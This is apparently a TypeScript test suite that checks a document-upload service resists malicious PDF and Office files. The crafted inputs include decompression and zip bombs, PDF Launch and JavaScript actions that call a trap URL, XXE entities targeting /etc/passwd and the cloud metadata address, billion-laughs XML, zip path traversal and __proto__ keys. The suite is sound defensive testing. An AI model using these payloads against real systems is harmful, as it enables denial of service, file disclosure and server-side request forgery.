// Malicious PDF and Office files, uploaded to a real service.
import assert from 'node:assert/strict';
import { existsSync } from 'node:fs';
import { readdir } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { describe, it } from 'node:test';
import { deflateSync } from 'node:zlib';
import XLSX from '@e965/xlsx';
import { makeDeflatedZeros, makeNestedFlate } from '../extraction/support/deflate-bomb.ts';
import { makeEncryptedPdf } from '../extraction/support/encrypted-pdf.ts';
import {
  makeDocx,
  makeDocxEntries,
  makeXlsx,
  makeXlsxEntries,
  OFFICE,
  WORD,
  writeParagraph,
  writeRelations,
  writeTextCell,
} from '../extraction/support/office-files.ts';
import { makePdfStream, makeRawPdf, ONE_PAGE } from '../extraction/support/raw-pdf.ts';
import { makeRawZip, makeZipEntry, type ZipEntry } from '../extraction/support/raw-zip.ts';
import { OVER, prepareHostileUploads } from './hostile-uploads.ts';
import { listLeftInStaging } from './uploads.ts';

const { read, textOf, become, dataDir, trapUrl } = prepareHostileUploads();
/** Number of zero bytes. If a petabyte of zeros is deflated five times, only a few hundred bytes remain. */
const PETABYTE = 1e15;
const FIVE_FILTERS = `/Filter[${'/FlateDecode'.repeat(5)}]`;
const makeBomb = (dictionary = '') => makePdfStream(makeNestedFlate(5, PETABYTE), FIVE_FILTERS + dictionary);

describe('a PDF with a password', () => {
  it('fails as password_protected if the password is needed to open it', async () => {
    const locked = makeEncryptedPdf('Words after it', { user: 'secret', owner: 'master' });
    assert.equal(await become('locked.pdf', locked), 'failed password_protected');
  });

  it('is read if the password is only needed to change it', async () => {
    const open = makeEncryptedPdf('Words for all', { user: '', owner: 'master' });
    assert.equal(await textOf('open.pdf', open), 'Words for all');
  });
});

describe('an endless PDF', () => {
  const makePageTree = (kids: string, count: number) =>
    makeRawPdf({ ...ONE_PAGE, 2: `<</Type/Pages/Kids[${kids}]/Count ${count}>>` });

  it('fails as resource_limit_exceeded if it inflates to a petabyte', async () => {
    const font = '<</Type/Font/Subtype/Type1/BaseFont/Helvetica/ToUnicode 6 0 R>>';
    const table = [Buffer.from('%PDF-1.5\n9 0 obj\n'), makeBomb('/Type/XRef/Size 10/W[1 2 1]/Root 1 0 R')];
    assert.equal(await become('page.pdf', makeRawPdf({ ...ONE_PAGE, 4: makeBomb() })), OVER);
    assert.equal(await become('font.pdf', makeRawPdf({ ...ONE_PAGE, 5: font, 6: makeBomb() })), OVER);
    const tail = Buffer.from('\nendobj\nstartxref\n9\n%%EOF');
    assert.equal(await become('table.pdf', Buffer.concat([...table, tail])), OVER);
  });

  it('fails as resource_limit_exceeded if its pages are their own ancestors', async () => {
    assert.equal(await become('self.pdf', makePageTree('2 0 R', 1)), OVER);
    assert.equal(await become('self-and-page.pdf', makePageTree('3 0 R 2 0 R', 2)), OVER);
    const two = { 2: '<</Type/Pages/Kids[6 0 R]/Count 5>>', 6: '<</Type/Pages/Kids[2 0 R 6 0 R]/Count 9>>' };
    assert.equal(await become('each-other.pdf', makeRawPdf({ ...ONE_PAGE, ...two })), OVER);
  });

  it('fails as resource_limit_exceeded if its update refers to itself as the previous one', async () => {
    assert.equal(await become('previous.pdf', makeRawPdf(ONE_PAGE, '/Prev @xref')), OVER);
  });

  it('fails as resource_limit_exceeded if it has a million objects', async () => {
    const count = 1_000_000;
    const head = Array.from({ length: count }, (_, index) => `${index + 10} ${index * 2} `).join('');
    const data = deflateSync(head + '0 '.repeat(count), { level: 1 });
    const objects = makePdfStream(data, `/Type/ObjStm/N ${count}/First ${head.length}/Filter/FlateDecode`);
    assert.equal(await become('objects.pdf', makeRawPdf({ ...ONE_PAGE, 6: objects })), OVER);
  });

  it('returns 422 too_many_pages if it states 999,999,999 pages, or repeats one a million times', async () => {
    assert.equal(await become('count.pdf', makePageTree('3 0 R', 999_999_999)), '422 file:too_many_pages');
    const kids = '3 0 R '.repeat(1_000_000);
    assert.equal(await become('kids.pdf', makePageTree(kids, 1_000_000)), '422 file:too_many_pages');
  });
});

describe('a PDF with active content', () => {
  it('is read without executing anything: scripts, programs, self-submitting forms, crafted fonts', async () => {
    const proof = join(dataDir(), 'was-run');
    const launch = `<</S/Launch/F(/usr/bin/touch)/Unix(touch ${proof})/Win<</F(touch)/P(${proof})>>>>`;
    const script = `<</S/JavaScript/JS(app.launchURL\\("${trapUrl()}/js"\\))>>`;
    const send = `<</S/SubmitForm/F(${trapUrl()}/form)/Next ${script}>>`;
    const active = makeRawPdf({
      ...ONE_PAGE,
      1: `<</Type/Catalog/Pages 2 0 R/OpenAction ${launch}/AA<</WC ${script}/DC ${send}>>/Names<</JavaScript<</Names[(a)${script}]>>>>>>`,
      3: `<</Type/Page/Parent 2 0 R/MediaBox[0 0 300 300]/Contents 4 0 R/AA<</O ${launch}/C ${send}>>/Resources<</Font<</F 5 0 R>>>>>>`,
      5: `<</Type/Font/Subtype/Type1/BaseFont/Helvetica/FontMatrix[1 2 3 4 5 (0\\); fetch\\('${trapUrl()}'\\))]>>`,
      6: makePdfStream(Buffer.from(`#!/bin/sh\ntouch ${proof}\n`), '/Type/EmbeddedFile'),
      7: '<</Type/Filespec/F(run.sh)/EF<</F 6 0 R>>>>',
    });
    assert.equal(await textOf('active.pdf', active), 'Words on the page');
    assert.ok(!existsSync(proof));
  });
});

/** Creates an archive entry of ten gigabytes that is compressed to ten megabytes. */
function makeTenGigabytes(name: string, statedSize?: number): ZipEntry {
  const { bytes, size } = makeDeflatedZeros(1e10);
  return { name, packed: bytes, statedSize: statedSize ?? size, checksum: 0 };
}

const KINDS = [
  {
    kind: 'docx',
    entries: makeDocxEntries(writeParagraph('Words')),
    main: 'word/document.xml',
    other: 'word/media/a.bin',
  },
  {
    kind: 'xlsx',
    entries: makeXlsxEntries(`<row r="1">${writeTextCell('A1', 'Words')}</row>`),
    main: 'xl/worksheets/sheet1.xml',
    other: 'xl/media/a.bin',
  },
];

for (const { kind, entries, main, other } of KINDS)
  describe(`a ${kind} bomb fails as resource_limit_exceeded`, () => {
    const expectOutcome = async (extra: ZipEntry[], without = '') => {
      const all = [...entries.filter(({ name }) => name !== without), ...extra];
      assert.equal(await become(`bomb.${kind}`, makeRawZip(all)), OVER);
    };

    it('if it inflates to ten gigabytes, regardless of the sizes in its headers', async () => {
      await expectOutcome([makeTenGigabytes(main)], main);
      await expectOutcome([makeTenGigabytes(main, 0)], main);
      await expectOutcome([makeTenGigabytes(other, 1000)]);
    });

    it('if it has 65,000 entries', () => {
      const empty = makeZipEntry('', '');
      return expectOutcome(
        Array.from({ length: 65_000 }, (_, index) => ({ ...empty, name: `${other}${index}` })),
      );
    });

    it('if its nested archives inflate to too much', async () => {
      const { bytes, size } = makeDeflatedZeros(4e9);
      let inner = makeRawZip([{ name: 'zeros', packed: bytes, statedSize: size, checksum: 0 }]);
      for (let depth = 0; depth < 3; depth++)
        inner = makeRawZip([makeZipEntry('a.zip', inner), makeZipEntry('b.zip', inner)]);
      await expectOutcome([makeZipEntry(`${other}.zip`, inner)]);
    });

    it("if an entry's path leads out of its folder; nothing is written there", async () => {
      const name = `legible-escape-${process.pid}`;
      await expectOutcome([makeZipEntry(`../../${name}`, 'out')]);
      const folder = dataDir();
      const places = [...(await readdir(folder, { recursive: true })), ...(await readdir(tmpdir()))];
      assert.deepEqual(
        [places.filter((place) => place.endsWith(name)), await listLeftInStaging({ dataDir: folder })],
        [[], []],
      );
    });
  });

describe('an Office file', () => {
  const makeDeclaringDocx = (declarations: string, body: string) => ({
    'a.docx': makeDocx('', {
      'word/document.xml': `<?xml version="1.0"?><!DOCTYPE x [${declarations}]><w:document ${WORD}><w:body>${writeParagraph(body)}</w:body></w:document>`,
    }),
    'a.xlsx': makeXlsx('', {
      'xl/worksheets/sheet1.xml': `<?xml version="1.0"?><!DOCTYPE x [${declarations}]><worksheet><sheetData><row r="1">${writeTextCell('A1', body)}</row></sheetData></worksheet>`,
    }),
  });
  const checkEachText = async (files: Record<string, Buffer>, check: (text: string) => void) => {
    for (const [name, bytes] of Object.entries(files)) check(await textOf(name, bytes));
  };

  it('with external entities contains no other file and requests nothing', async () => {
    const target = ['file:///etc/passwd', `${trapUrl()}/entity`, 'http://169.254.169.254/latest/meta-data/'];
    const general = target.map((url, index) => `<!ENTITY e${index} SYSTEM "${url}">`).join('');
    const parameter = `<!ENTITY % p SYSTEM "${trapUrl()}/parameter"> %p;`;
    await checkEachText(makeDeclaringDocx(general + parameter, '[&e0;&e1;&e2;]'), (text) =>
      assert.match(text, /\[&e0;&e1;&e2;\]/),
    );
  });

  it('does not expand a billion laughs', async () => {
    const levels = Array.from(
      { length: 9 },
      (_, level) => `<!ENTITY l${level + 1} "${`&l${level};`.repeat(10)}">`,
    );
    await checkEachText(makeDeclaringDocx(`<!ENTITY l0 "laugh">${levels.join('')}`, '[&l9;]'), (text) =>
      assert.match(text, /\[&l9;\]/),
    );
  });

  it('with a million character references contains these characters as text', async () => {
    const many = '&#65;'.repeat(1_000_000);
    await checkEachText(
      {
        'a.docx': makeDocx(writeParagraph(many)),
        'a.xlsx': makeXlsx(`<row r="1">${writeTextCell('A1', many)}</row>`),
      },
      (text) => assert.equal(text.match(/A/g)?.length, 1_000_000),
    );
  });

  it('with linked images opens neither a file nor a URL', async () => {
    const drawing =
      '<w:p><w:r><w:drawing><a:graphic xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main"><a:blip r:link="p"/></a:graphic></w:drawing></w:r></w:p>';
    for (const target of ['file:///etc/passwd', '/etc/passwd', '/dev/zero', `${trapUrl()}/image.png`]) {
      const relationships = writeRelations([{ id: 'p', type: 'image', target, external: true }]);
      const linked = makeDocx(drawing + writeParagraph('Words'), {
        'word/_rels/document.xml.rels': relationships,
      });
      assert.equal(await textOf('linked.docx', linked), 'Words');
    }
  });

  it('with external workbooks or macros is read with its own cells and words', async () => {
    const outside = writeRelations([
      { id: 'x', type: 'externalLinkPath', target: `${trapUrl()}/b.xlsx`, external: true },
    ]);
    const cells = `<row r="1"><c r="A1"><f>[1]Sheet1!A1</f><v>42</v></c></row>`;
    const book = makeXlsx(cells, {
      'xl/externalLinks/externalLink1.xml': `<externalLink xmlns:r="${OFFICE}"><externalBook r:id="x"/></externalLink>`,
      'xl/externalLinks/_rels/externalLink1.xml.rels': outside,
      'xl/vbaProject.bin': 'Sub Auto_Open()',
    });
    assert.match(await textOf('linked.xlsx', book), /42/);
    const letter = makeDocx(writeParagraph('Words'), { 'word/vbaProject.bin': 'Sub AutoOpen()' });
    assert.equal(await textOf('macros.docx', letter), 'Words');
  });
});

describe('an Office file with a password', () => {
  for (const name of ['secret.docx', 'secret.xlsx'])
    it(`(${name}) fails as password_protected`, async () => {
      const container = XLSX.CFB.utils.cfb_new();
      XLSX.CFB.utils.cfb_add(container, '/EncryptionInfo', Buffer.alloc(248, 4));
      XLSX.CFB.utils.cfb_add(container, '/EncryptedPackage', Buffer.alloc(8000, 5));
      const bytes = Buffer.from(XLSX.CFB.write(container, { type: 'buffer' }));
      assert.equal(await become(name, bytes), 'failed password_protected');
    });
});

describe('a docx with hostile styles', () => {
  const STYLES = ['__proto__', 'constructor', 'toString', 'hasOwnProperty'];
  const makeStyledDocx = (ids: string[], text: (id: string) => string, more = {}) =>
    makeDocx(ids.map((id) => writeParagraph(text(id), `<w:pPr><w:pStyle w:val="${id}"/></w:pPr>`)).join(''), {
      'word/_rels/document.xml.rels': writeRelations([{ id: 's', type: 'styles', target: 'styles.xml' }]),
      'word/styles.xml': `<w:styles ${WORD}>${ids
        .map(
          (id) =>
            `<w:style w:type="paragraph" w:styleId="${id}"><w:name w:val="${id}"/><w:basedOn w:val="${id}"/></w:style>`,
        )
        .join('')}</w:styles>`,
      ...more,
    });

  it('is read if styles have names of JavaScript properties or slow down a pattern, and so is the next file', async () => {
    const good = makeDocx(
      writeParagraph('Title', '<w:pPr><w:pStyle w:val="Heading1"/></w:pPr>') + writeParagraph('Words'),
    );
    const earlier = await textOf('good.docx', good);
    const text = await textOf(
      'names.docx',
      makeStyledDocx(STYLES, (id) => `in ${id}`),
    );
    for (const id of STYLES) assert.ok(text.includes(`in ${id}`));
    const tiring = makeStyledDocx([`${'heading '.repeat(200_000)}!`], () => 'Words', {
      'mammoth/style-map': `p[style-name='${'\\'.repeat(200_000)}`,
    });
    assert.equal(await textOf('pattern.docx', tiring), 'Words');
    assert.equal(await textOf('good.docx', good), earlier);
  });
});

describe('an xlsx that states a larger size than it has', () => {
  it('takes no more resources than its real size: a row number of a billion, a merged cell over the whole sheet', async () => {
    const near = `<row r="1">${writeTextCell('A1', 'near')}</row>`;
    const far = `<row r="1000000000">${writeTextCell('A1000000000', 'far')}</row>`;
    const { parsedData } = await read('far.xlsx', makeXlsx(near + far));
    assert.deepEqual(parsedData?.tables[0]?.rows, [['near']]);
    const sheet = `<worksheet><dimension ref="A1:XFD1048576"/><sheetData>${near}</sheetData><mergeCells><mergeCell ref="A1:XFD1048576"/></mergeCells></worksheet>`;
    const merged = await read('merged.xlsx', makeXlsx('', { 'xl/worksheets/sheet1.xml': sheet }));
    assert.deepEqual(merged.parsedData?.tables[0]?.rows, [['near']]);
  });

  it('keeps its header names as written, including __proto__', async () => {
    const makeRow = (number: number, ...texts: string[]) =>
      `<row r="${number}">${texts.map((text, column) => writeTextCell(`${'AB'[column]}${number}`, text)).join('')}</row>`;
    const bytes = makeXlsx(makeRow(1, '__proto__', 'constructor') + makeRow(2, 'admin', 'true'));
    const { parsedData } = await read('headings.xlsx', bytes);
    assert.deepEqual(parsedData?.tables[0]?.rows, [
      ['__proto__', 'constructor'],
      ['admin', 'true'],
    ]);
    assert.equal(Reflect.get({}, 'admin'), undefined);
  });
});
